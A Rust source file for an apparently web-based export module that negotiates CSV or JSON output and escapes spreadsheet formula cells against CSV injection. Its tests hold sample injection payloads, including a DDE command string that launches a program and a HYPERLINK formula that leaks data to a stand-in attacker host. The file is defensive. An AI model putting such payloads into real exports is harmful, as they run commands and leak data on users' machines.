//! Result export: the format chosen from `Accept`, and the CSV and JSON renderings.

use warp::http::header::{HeaderValue, CONTENT_TYPE};
use warp::http::StatusCode;
use warp::reply::Response;

use super::dto::ExportRowOut;
use crate::domain::export::ExportRow;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// CSV, answered with the media type asked (`text/csv` or `application/csv`).
    Csv(&'static str),
    Json,
}

/// The format to answer for an `Accept` header: the acceptable media range of highest quality
/// (the first on ties) that is offered; JSON when there is no header. `None`: 406.
pub fn negotiate(accept: Option<&str>) -> Option<Format> {
    let Some(accept) = accept.filter(|a| !a.trim().is_empty()) else {
        return Some(Format::Json);
    };
    let mut best: Option<(f32, Format)> = None;
    for range in accept.split(',') {
        let mut parts = range.split(';');
        let media = parts.next().unwrap_or("").trim().to_ascii_lowercase();
        let quality = parts
            .filter_map(|p| p.trim().strip_prefix("q="))
            .find_map(|q| q.trim().parse::<f32>().ok())
            .unwrap_or(1.0);
        if quality <= 0.0 {
            continue;
        }
        let format = match media.as_str() {
            "text/csv" | "text/*" => Format::Csv("text/csv"),
            "application/csv" => Format::Csv("application/csv"),
            "application/json" | "application/*" | "*/*" => Format::Json,
            _ => continue,
        };
        if best.is_none_or(|(q, _)| quality > q) {
            best = Some((quality, format));
        }
    }
    best.map(|(_, f)| f)
}

/// A text cell a spreadsheet will not run: one that begins with `=`, `+`, `-`, `@`, a tab or
/// a carriage return gets a leading `'` (OWASP, CSV injection). Only the query is text; the
/// date and the count are written by the server and stay as they are, numbers included.
pub fn text_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// CSV `day,query,count` with RFC 4180 quoting; a withheld day's count cell is empty.
pub fn csv(rows: &[ExportRow]) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["day", "query", "count"])?;
    for r in rows {
        let count = r.count.map_or_else(String::new, |c| c.to_string());
        w.write_record([
            r.date.to_string().as_str(),
            &text_cell(&r.query),
            count.as_str(),
        ])?;
    }
    w.into_inner()
        .map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
}

/// The rows in `format`.
pub fn render(rows: &[ExportRow], format: Format) -> Response {
    let (body, content_type) = match format {
        Format::Csv(media) => (csv(rows).map_err(|e| e.to_string()), media),
        Format::Json => {
            let rows: Vec<ExportRowOut> = rows.iter().map(ExportRowOut::from).collect();
            (
                serde_json::to_vec(&rows).map_err(|e| e.to_string()),
                "application/json",
            )
        }
    };
    match body {
        Ok(body) => {
            let mut res = Response::new(body.into());
            let value = if content_type == "application/json" {
                HeaderValue::from_static("application/json")
            } else if content_type == "application/csv" {
                HeaderValue::from_static("application/csv; charset=utf-8")
            } else {
                HeaderValue::from_static("text/csv; charset=utf-8")
            };
            res.headers_mut().insert(CONTENT_TYPE, value);
            res
        }
        Err(e) => {
            tracing::error!(error = %e, "export rendering failed: answering 500");
            super::rejection::errors_response(
                StatusCode::INTERNAL_SERVER_ERROR,
                &["internal server error".to_string()],
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::NaiveDate;

    #[test]
    fn formula_cells_get_a_leading_quote_and_numbers_stay_numbers() {
        let date = NaiveDate::from_ymd_opt(2018, 5, 9).unwrap();
        let row = |query: &str, count: Option<i64>| ExportRow {
            date,
            query: query.into(),
            count,
        };
        let rows = [
            row("=cmd|' /C calc'!A0", Some(3)),
            row("+SUM(1+1)", Some(1)),
            row("-2+3", Some(2)),
            row("@SUM(1)", Some(4)),
            row("=HYPERLINK(\"http://evil.example/?leak\")", Some(5)),
            row("\tindent", Some(6)),
            row("\rreturn", Some(7)),
            row("flu, fever", Some(8)),
            row("a=b", Some(9)),
            row("_total", None),
        ];
        let text = String::from_utf8(csv(&rows).unwrap()).unwrap();
        assert_eq!(
            text,
            "day,query,count\n\
             2018-05-09,'=cmd|' /C calc'!A0,3\n\
             2018-05-09,'+SUM(1+1),1\n\
             2018-05-09,'-2+3,2\n\
             2018-05-09,'@SUM(1),4\n\
             2018-05-09,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\")\",5\n\
             2018-05-09,'\tindent,6\n\
             2018-05-09,\"'\rreturn\",7\n\
             2018-05-09,\"flu, fever\",8\n\
             2018-05-09,a=b,9\n\
             2018-05-09,_total,\n"
        );
        assert_eq!(text_cell("flu"), "flu");
        assert_eq!(text_cell(""), "");
    }

    #[test]
    fn negotiation_prefers_highest_quality_and_defaults_to_json() {
        assert_eq!(negotiate(None), Some(Format::Json));
        assert_eq!(negotiate(Some("text/csv")), Some(Format::Csv("text/csv")));
        assert_eq!(
            negotiate(Some("application/csv")),
            Some(Format::Csv("application/csv"))
        );
        assert_eq!(
            negotiate(Some("application/json;q=0.5, text/csv")),
            Some(Format::Csv("text/csv"))
        );
        assert_eq!(
            negotiate(Some("text/html,application/xhtml+xml,*/*;q=0.8")),
            Some(Format::Json)
        );
        assert_eq!(negotiate(Some("text/html")), None);
        assert_eq!(negotiate(Some("text/csv;q=0")), None);
    }
}
